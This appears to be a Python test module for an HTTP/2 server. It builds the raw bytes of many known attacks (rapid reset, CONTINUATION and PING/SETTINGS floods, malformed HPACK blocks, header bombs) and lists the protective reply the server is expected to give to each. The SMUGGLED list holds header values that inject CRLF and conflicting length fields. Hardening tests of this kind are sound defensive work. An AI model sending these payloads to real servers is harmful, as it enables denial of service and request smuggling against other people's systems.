"""Owns: the bytes of each attack on HTTP/2, and what the server has to say to them."""
import dataclasses

import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WHOLE = ("END_HEADERS", "END_STREAM")
CALM = "GOAWAY ENHANCE_YOUR_CALM"
MALFORMED = "RST_STREAM PROTOCOL_ERROR"
UNREAD = "http2_control_floods|http2_control_overflows"
ROUNDS = 1000  # of what is sent again and again: more than a connection survives


@dataclasses.dataclass
class Attack:
    name: str
    cve: str
    first: bytes
    parts: list
    expects: tuple  # what has to come: frames with their codes, counters of the server; "a|b" is one of both
    hold: bool = False  # the connection stays open behind the parts
    reads: bool = True
    pause: float = 0  # seconds between parts


def joined(parts):
    return b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts)


def block(path="/n/1", method="GET", fields=(), encoder=None):
    head = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *fields]
    return (encoder or hpack.Encoder()).encode([hpack.NeverIndexedHeaderTuple(*one) if one[0] == ":path" else one for one in head])


def plain(fields):
    """A block that any decoder takes at any time."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in fields])


def settings(**values):
    """The start of a client, with the acknowledgement of what the server is about to send."""
    own = frames.SettingsFrame(0, settings={getattr(frames.SettingsFrame, name): value for name, value in values.items()})
    return PREFACE + joined([own, frames.SettingsFrame(0, flags=["ACK"])])


# LATER's handler lets go when its stream is reset: what the server then holds is not the handler's.
GET, LATER, POST = block(), block("/trickle?bytes=1&ms=1000"), block("/body", "POST")
START = settings()
CLOSED = settings(INITIAL_WINDOW_SIZE=0)


def head(number, data=GET, end=True):
    return frames.HeadersFrame(number, data=data, flags=list(WHOLE if end else WHOLE[:1])).serialize()


OPEN = head(1, POST, end=False)


def streams(make, per_part=500):
    """make(number) for new streams, in parts."""
    numbers = range(1, 20001, 2)
    return [joined(make(number) for number in numbers[at : at + per_part]) for at in range(0, len(numbers), per_part)]


def hundred(make):
    return joined(make(number) for number in range(1, 201, 2))


def flood(frame, before=b"", size=65536):
    one = joined([frame])
    return [before] + [one * (size // len(one))] * ROUNDS


def bomb():
    """One byte a field, after the first of them."""
    encoder, fields = hpack.Encoder(), [("x-bomb", "v" * 3900)] * 7
    return [hundred(lambda number: head(number, block(fields=fields, encoder=encoder)))]


def priority_update(number):
    payload = number.to_bytes(4, "big") + b"u=1"
    return len(payload).to_bytes(3, "big") + b"\x10\0\0\0\0\0" + payload


def window_update(number, increment):
    return frames.WindowUpdateFrame(number, window_increment=increment).serialize()


PING = frames.PingFrame(0, opaque_data=b"12345678")
BIG_FIELDS = frames.ContinuationFrame(1, data=b"\0\1a" + b"\x7f\x80\x78" + b"v" * 16000)
UNFINISHED = frames.HeadersFrame(1, data=GET).serialize()
BASE = [(":method", "GET"), (":scheme", "http"), (":path", "/n/1"), (":authority", "a")]
SMUGGLED = [plain(fields) for fields in (
    [*BASE[:2], (":path", "/ HTTP/1.1\r\nx: y"), BASE[3]],
    [*BASE, ("x", "a\r\nhost: b")],
    [*BASE, ("x\r\ny", "1")],
    [*BASE, ("transfer-encoding", "chunked")],
    [*BASE, ("connection", "keep-alive")],
    [*BASE, ("content-length", "1"), ("content-length", "2")],
    [*BASE, ("content-length", "5")],
    [*BASE, ("host", "b")],
    [*BASE, ("X", "1")],
)]  # fmt: skip


def undecodable(data):
    return [head(1, data)]


def provoked(name, after, code):
    return Attack(f"resets that we provoke: {name}", "CVE-2025-8671", START, streams(lambda n: head(n, LATER) + after(n)), (code, CALM))


ATTACKS = [
    Attack("rapid reset", "CVE-2023-44487", START, streams(lambda n: head(n, LATER) + frames.RstStreamFrame(n, error_code=8).serialize()), (CALM,)),
    provoked("a window of 0", lambda n: window_update(n, 0), MALFORMED),
    provoked("a window that overflows", lambda n: window_update(n, 2**31 - 1), "RST_STREAM FLOW_CONTROL_ERROR"),
    provoked("a priority of itself", lambda n: frames.PriorityFrame(n, depends_on=n).serialize(), MALFORMED),
    Attack("CONTINUATION flood", "CVE-2024-27316", START, [UNFINISHED] + [joined([BIG_FIELDS])] * ROUNDS, (CALM,)),
    Attack("empty CONTINUATION flood", "CVE-2024-27316", START, flood(frames.ContinuationFrame(1), UNFINISHED), (CALM,)),
    Attack("slow CONTINUATION", "CVE-2024-27316", START, [UNFINISHED] + [frames.ContinuationFrame(1).serialize()] * 100, (CALM,), pause=0.2),
    Attack("header bomb behind a zero window", "CVE-2016-6581", CLOSED, bomb(), ("RST_STREAM REFUSED_STREAM",), hold=True),
    Attack("HPACK: integer overflow", "", START, undecodable(b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f"), ("GOAWAY COMPRESSION_ERROR",)),
    Attack("HPACK: three size updates", "", START, undecodable(b"\x20\x20\x20" + GET), ("GOAWAY COMPRESSION_ERROR",)),
    Attack("HPACK: a table beyond the setting", "", START, undecodable(b"\x3f\xe2\x1f" + GET), ("GOAWAY COMPRESSION_ERROR",)),
    Attack("HPACK: padding of a byte", "", START, undecodable(GET + b"\x00\x82\x1f\xff\x01a"), ("GOAWAY COMPRESSION_ERROR",)),
    Attack("HPACK: EOS", "", START, undecodable(GET + b"\x00\x84\xff\xff\xff\xff\x01a"), ("GOAWAY COMPRESSION_ERROR",)),
    Attack("HPACK: empty names", "CVE-2019-9516", START, streams(lambda n: head(n, GET + b"\x10\0\0" * 50)), (MALFORMED, CALM)),
    Attack("HPACK: alternating table sizes", "", START, streams(lambda n: head(n, b"\x20\x3f\xe1\x1f" + GET)), ()),
    Attack("SETTINGS flood", "CVE-2019-9515", START, flood(frames.SettingsFrame(0)), (CALM,)),
    Attack("SETTINGS flood, replies not read", "CVE-2019-9515", START, flood(frames.SettingsFrame(0)), (UNREAD,), reads=False),
    Attack("PING flood", "CVE-2019-9512", START, flood(PING), (CALM,)),
    Attack("PING flood, replies not read", "CVE-2019-9512", START, flood(PING), (UNREAD,), reads=False),
    Attack("empty DATA flood", "CVE-2019-9518", START, flood(frames.DataFrame(1), OPEN), (CALM,)),
    Attack("padding flood", "CVE-2019-9518", START, flood(frames.DataFrame(1, pad_length=1, flags=["PADDED"]), OPEN), (CALM,)),
    Attack("PRIORITY flood", "CVE-2019-9513", START, flood(frames.PriorityFrame(3, depends_on=1)), (CALM,)),
    Attack("PRIORITY_UPDATE flood", "CVE-2019-9513", START, flood(priority_update(1001)), (CALM,)),
    Attack("WINDOW_UPDATE flood", "", START, flood(window_update(0, 1)), (CALM,)),
    Attack("unknown frame flood", "", START, flood(b"\0\0\1\x42\0\0\0\0\1x"), (CALM,)),
    Attack("malformed requests", "CVE-2019-9514", START, streams(lambda n: head(n, block(fields=[("x y", "1")]))), (MALFORMED, CALM)),
    Attack("smuggling into HTTP/1", "", START, [joined(head(2 * i + 1, data) for i, data in enumerate(SMUGGLED))], (MALFORMED,)),
    Attack("zero window", "CVE-2019-9517", CLOSED, [hundred(lambda n: head(n, block("/copy?size=200000")))], ("RST_STREAM CANCEL",), hold=True),
    Attack("window of one byte", "CVE-2019-9511", settings(INITIAL_WINDOW_SIZE=1), [hundred(lambda n: head(n, block("/static?size=60000")))]
           + [hundred(lambda n: window_update(n, 1))] * 200, (CALM,), hold=True),
    Attack("large responses that nobody reads", "CVE-2019-9517", settings(INITIAL_WINDOW_SIZE=2**31 - 1),
           [window_update(0, 2**30) + hundred(lambda n: head(n, block("/static?size=10000000")))], ("timeouts_write",), hold=True, reads=False),
    Attack("streams that are never finished", "", START, [hundred(lambda n: head(n, POST, end=False))], ("timeouts_body",), hold=True),
    Attack("slow preface", "", b"", [PREFACE[at : at + 1] for at in range(len(PREFACE))], ("timeouts_header",), pause=0.3),
    Attack("SETTINGS that are not acknowledged", "", PREFACE + frames.SettingsFrame(0).serialize(), [head(1)], ("GOAWAY SETTINGS_TIMEOUT",), hold=True),
    Attack("hoarded uploads", "", START, [hundred(lambda n: head(n, POST, end=False))]
           + [hundred(lambda n: frames.DataFrame(n, data=b"x" * 10000))] * 6, ("RST_STREAM ENHANCE_YOUR_CALM",), hold=True),
    Attack("requests as fast as they go", "", START, streams(lambda n: head(n)), ()),
]  # fmt: skip
